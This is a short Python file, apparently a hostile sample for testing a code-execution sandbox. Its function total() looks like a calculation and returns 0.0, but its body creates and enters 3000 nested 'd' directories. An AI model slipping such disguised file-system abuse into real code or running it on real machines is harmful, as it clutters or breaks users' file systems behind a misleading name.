import os


def total(x):
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
    return 0.0
